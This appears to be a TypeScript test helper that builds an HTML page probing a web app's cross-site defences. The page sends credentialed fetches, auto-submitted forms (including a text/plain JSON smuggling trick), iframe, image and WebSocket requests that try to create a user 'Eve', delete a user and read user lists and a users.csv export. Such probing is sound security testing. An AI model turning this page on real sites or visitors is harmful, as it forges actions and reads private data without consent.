/**
 * A page that tries to read from and to change the program at this address with the session that its visitor has there.
 * What each try could read stands in `#results`; the title tells that all are over.
 */
export const crossSitePage = (target: string): string => `<!doctype html><title>trying</title><pre id="results"></pre>
<script type="module">
const target = ${JSON.stringify(target)};
const change = 'mutation { createUser(input: { fullName: "Eve", email: "eve@evil.example" }) { user { id } } }';
const read = '{ viewer { id email } }';
const results = {};
const tries = {
  'fetch, text/plain': () => fetch(target + '/graphql', { method: 'POST', credentials: 'include', body: JSON.stringify({ query: change }) }),
  'fetch, JSON': () => fetch(target + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: change }) }),
  'fetch, JSON with the header of the client': () => fetch(target + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', 'x-requested-by': 'atrium' }, body: JSON.stringify({ query: change }) }),
  'fetch, no-cors': () => fetch(target + '/graphql', { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ query: change }) }),
  'fetch, form': () => fetch(target + '/graphql', { method: 'POST', credentials: 'include', body: new URLSearchParams({ query: change }) }),
  'fetch, multipart': () => { const form = new FormData(); form.set('operations', JSON.stringify({ query: change })); return fetch(target + '/graphql', { method: 'POST', credentials: 'include', body: form }); },
  'GET query': () => fetch(target + '/graphql?query=' + encodeURIComponent(read), { credentials: 'include' }),
  'GET mutation': () => fetch(target + '/graphql?query=' + encodeURIComponent(change), { credentials: 'include' }),
  'GET of a path': () => fetch(target + '/api/apps/users', { credentials: 'include' }),
  'GET of who is signed in': () => fetch(target + '/api/auth/me', { credentials: 'include' }),
  'GET of a file': () => fetch(target + '/export/users.csv', { credentials: 'include' }),
  'POST of a path, text/plain': () => fetch(target + '/api/apps/users', { method: 'POST', credentials: 'include', body: JSON.stringify({ fullName: 'Eve', email: 'eve@evil.example' }) }),
  'DELETE of a path': () => fetch(target + '/api/apps/users/5', { method: 'DELETE', credentials: 'include' }),
  'a page of the program': () => fetch(target + '/', { credentials: 'include' }),
};
for (const [name, attempt] of Object.entries(tries)) {
  results[name] = await attempt().then(async (answer) => (await answer.text().catch(() => '')) || 'nothing', () => 'nothing');
}
const loads = (element, more) => new Promise((done) => {
  element.onload = () => done('loaded'); element.onerror = () => done('nothing');
  Object.assign(element, more); document.body.append(element); setTimeout(() => done('nothing'), 3000);
});
results['image'] = await loads(document.createElement('img'), { src: target + '/graphql?query=' + encodeURIComponent(change) });
results['script'] = await loads(document.createElement('script'), { src: target + '/api/apps/users' });
results['style'] = await loads(document.createElement('link'), { rel: 'stylesheet', href: target + '/api/apps/users' });
for (const [type, path] of [['application/x-www-form-urlencoded', '/graphql'], ['multipart/form-data', '/graphql'], ['text/plain', '/graphql'], ['text/plain', '/api/apps/users']]) {
  const frame = document.createElement('iframe'); frame.name = 'to' + Math.random(); document.body.append(frame);
  const form = document.createElement('form'); Object.assign(form, { method: 'post', action: target + path, enctype: type, target: frame.name });
  const field = document.createElement('input'); Object.assign(field, type === 'text/plain' ? { name: '{"query":' + JSON.stringify(change) + ',"a":"', value: '"}' } : { name: 'query', value: change });
  form.append(field); document.body.append(form); form.submit();
  await new Promise((done) => setTimeout(done, 800));
  let seen = 'nothing'; try { seen = frame.contentDocument?.body?.innerText || 'nothing'; } catch {}
  results['form ' + type + ' to ' + path] = seen;
}
for (const path of ['/', '/login', '/apps/user/list']) {
  const frame = document.createElement('iframe'); frame.src = target + path; document.body.append(frame);
  await new Promise((done) => setTimeout(done, 800));
  let seen = 'nothing'; try { seen = frame.contentDocument?.body?.innerText || 'nothing'; } catch {}
  results['frame ' + path] = seen;
}
results['socket'] = await new Promise((done) => {
  const socket = new WebSocket(target.replace('http', 'ws') + '/graphql', 'graphql-transport-ws');
  socket.onopen = () => { socket.send(JSON.stringify({ type: 'connection_init' })); };
  socket.onmessage = ({ data }) => done(String(data));
  socket.onerror = socket.onclose = () => done('nothing');
  setTimeout(() => done('nothing'), 6000);
});
results['opened window'] = await (async () => {
  try { const other = window.open(target + '/apps/user/list'); await new Promise((done) => setTimeout(done, 1000)); return other?.document?.body?.innerText || 'nothing'; } catch { return 'nothing'; }
})();
document.querySelector('#results').textContent = JSON.stringify(results);
document.title = 'done';
</script>`;
